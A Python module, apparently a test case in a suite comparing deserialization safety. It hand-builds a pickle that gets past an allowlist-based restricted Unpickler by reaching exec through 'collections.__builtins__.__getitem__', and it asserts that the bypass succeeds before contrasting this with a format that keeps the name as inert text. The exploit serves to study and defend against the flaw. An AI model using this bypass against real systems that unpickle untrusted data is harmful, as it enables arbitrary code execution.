"""Past an allowlist of modules.

Wants: code in a host whose unpickler allows only `collections`
Against: the restricted `pickle.Unpickler` of the library reference, by module
Since: 0.1
"""

from __future__ import annotations

import io
import pickle
from typing import Any

from gadgets import CODE, carried
from harness import expose, inert, naive
from hookless import Record


def short(text: str) -> bytes:
    return pickle.SHORT_BINUNICODE + bytes([len(text)]) + text.encode()


# `collections.__builtins__` is a dict; a dotted name reaches its method, which returns exec.
NAME = "__builtins__.__getitem__"
PICKLE = (
    pickle.PROTO
    + b"\x04"
    + short("collections")
    + short(NAME)
    + pickle.STACK_GLOBAL
    + short("exec")
    + pickle.TUPLE1
    + pickle.REDUCE
    + short(CODE)
    + pickle.TUPLE1
    + pickle.REDUCE
    + b"."
)


class Restricted(pickle.Unpickler):
    def find_class(self, module: str, name: str) -> Any:
        if module != "collections":
            raise pickle.UnpicklingError(f"{module}.{name} is forbidden")
        return super().find_class(module, name)


def victim(data: bytes) -> None:
    Restricted(io.BytesIO(data)).load()


def peer() -> str:
    assert expose(__name__, PICKLE).marked
    return f"succeeds: `collections` `{NAME}` returns exec"


def ours() -> str:
    inert(naive.frame(naive.record([], module="collections", qualname=NAME)), Record("collections", NAME, {}))
    return f"{carried(PICKLE)}; as the name of a record it is text"
